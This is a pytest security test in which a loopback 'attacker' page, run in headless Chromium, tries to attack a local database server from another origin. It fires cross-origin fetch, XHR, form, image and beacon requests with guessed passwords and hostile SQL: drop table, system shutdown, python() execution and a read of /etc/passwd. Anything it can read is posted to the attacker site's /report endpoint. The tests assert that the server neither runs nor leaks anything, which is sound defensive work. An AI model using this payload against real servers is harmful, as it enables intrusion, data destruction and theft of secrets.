"""A real page in a real browser attacks the embedded server from another origin."""

from __future__ import annotations

import json
import shutil
import subprocess
import threading
from collections.abc import Callable, Iterator, Sequence
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from tests.support.attacker import Target

BROWSER = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not BROWSER, reason="needs a headless Chromium; on Debian: apt-get install chromium"),
]

# Every way in which a page can send a request, with the right user name and guesses of the password: fetch in three
# modes, XMLHttpRequest, a form, an image, a script, a frame and a beacon. What the page could read is sent to /report.
PAGE = """<!doctype html><title>A page</title><body><script>
const server = SERVER, passwords = PASSWORDS, statements = STATEMENTS, seen = [];
const post = (url, sql, options) => fetch(url, {method: "POST", body: sql, ...options});
const keep = response => response.text().then(text => text && seen.push(text));
async function attack(sql, password) {
  const url = server + "/?user=tape&password=" + encodeURIComponent(password);
  const inUrl = url + "&query=" + encodeURIComponent(sql);
  const requests = [
    () => post(url, sql).then(keep),
    () => post(url, sql, {mode: "no-cors"}).then(keep),
    () => post(server + "/", sql, {headers: {"Authorization": "Basic " + btoa("tape:" + password)}}).then(keep),
    () => post(server + "/", sql, {headers: {"X-ClickHouse-User": "tape", "X-ClickHouse-Key": password}}).then(keep),
    () => fetch(inUrl + "&add_http_cors_header=1").then(keep),
    () => navigator.sendBeacon(url, sql),
    () => new Promise(done => {
      const request = new XMLHttpRequest();
      request.onloadend = () => { request.responseText && seen.push(request.responseText); done(); };
      request.open("POST", url);
      request.send(sql);
    }),
    () => new Promise(done => {
      const image = new Image();
      image.onload = image.onerror = done;
      image.src = inUrl;
    }),
    () => {
      const form = document.createElement("form"), frame = document.createElement("iframe");
      const field = document.createElement("input");
      form.target = frame.name = "frame" + Math.random();
      form.method = "post";
      form.enctype = "text/plain";
      form.action = url;
      field.name = sql + " -- ";
      form.append(field);
      document.body.append(frame, form);
      form.submit();
    },
  ];
  for (const request of requests) { try { await request(); } catch (error) {} }
}
(async () => {
  for (const sql of statements) for (const password of passwords) await attack(sql, password);
  await new Promise(done => setTimeout(done, 1500));
  await fetch("/report", {method: "POST", body: JSON.stringify(seen)});
})();
</script>"""
ATTACKS = (
    "create database from_a_page",
    "drop table deribit_raw.t sync",
    "insert into deribit_raw.t values ('page')",
    "system shutdown",
    "select * from python('x')",
    "select x from deribit_raw.t",
)
GUESSES = ("", "tape-development", "tape", "password")


def _page(target: Target, passwords: Sequence[str], statements: Sequence[str]) -> str:
    page = PAGE.replace("SERVER", json.dumps(target.settings.url)).replace("PASSWORDS", json.dumps(passwords))
    return page.replace("STATEMENTS", json.dumps(statements))


class _Site(ThreadingHTTPServer):
    """The attacker's web site on a loopback port."""

    daemon_threads = True

    def __init__(self, page: str) -> None:
        self.page = page
        self.report: list[str] | None = None
        self.has_report = threading.Event()
        super().__init__(("127.0.0.1", 0), _Handler)


class _Handler(BaseHTTPRequestHandler):
    server: _Site

    def do_GET(self) -> None:
        self._reply(self.server.page.encode())

    def do_POST(self) -> None:
        self.server.report = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        self._reply(b"")
        self.server.has_report.set()

    def _reply(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def visit(tmp_path: Path) -> Iterator[Callable[[str], list[str]]]:
    """Open a page in the browser from a new origin; return what it reports."""
    sites: list[_Site] = []

    def open_page(page: str) -> list[str]:
        site = _Site(page)
        sites.append(site)
        threading.Thread(target=site.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
        flags = ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
                 f"--user-data-dir={tmp_path / 'profile'}", "--remote-debugging-port=0",
                 "--disable-background-networking")  # fmt: skip
        assert BROWSER
        with (tmp_path / "browser.log").open("wb") as log:
            browser = subprocess.Popen(
                [BROWSER, *flags, f"http://127.0.0.1:{site.server_port}/"],
                stdout=log,
                stderr=log,
                start_new_session=True,
            )
        try:
            assert site.has_report.wait(120), (tmp_path / "browser.log").read_text(errors="replace")[-2000:]
        finally:
            browser.terminate()
            browser.wait(20)
        assert site.report is not None
        return site.report

    yield open_page
    for site in sites:
        site.shutdown()
        site.server_close()


def _state(target: Target) -> tuple[str, str, int]:
    owner = target.attacker("tape")
    databases = "SELECT count() FROM system.databases WHERE name = 'from_a_page'"
    return owner.query("SELECT groupArray(x) FROM deribit_raw.t"), owner.query(databases), target.engine_pid


def test_page_of_another_origin_can_neither_read_nor_write_nor_stop_the_server(
    target: Target, visit: Callable[[str], list[str]]
) -> None:
    """With the right user name and guessed passwords: nothing is executed, and no response is readable."""
    before = _state(target)
    assert visit(_page(target, GUESSES, ATTACKS)) == []
    assert _state(target) == before == ("['row']", "0", target.engine_pid)


def test_page_cannot_read_a_response_even_with_the_password(
    target: Target, visit: Callable[[str], list[str]]
) -> None:
    """The second line of defence: the browser withholds every response, because none allows another origin."""
    before = _state(target)
    statements = ("select x from deribit_raw.t", "select * from python('x')", "select file('/etc/passwd')")
    assert visit(_page(target, (target.settings.password,), statements)) == []
    assert _state(target) == before


def test_browser_can_reach_the_server_at_all(target: Target, visit: Callable[[str], list[str]]) -> None:
    """A check of the test itself: the same browser reaches the server, so the other tests do not pass by accident."""
    ping = f'fetch("{target.settings.url}/ping", {{mode: "no-cors"}})'
    report = 'fetch("/report", {method: "POST", body: JSON.stringify([response.type])})'
    assert visit(f"<body><script>{ping}.then(response => {report})</script>") == ["opaque"]
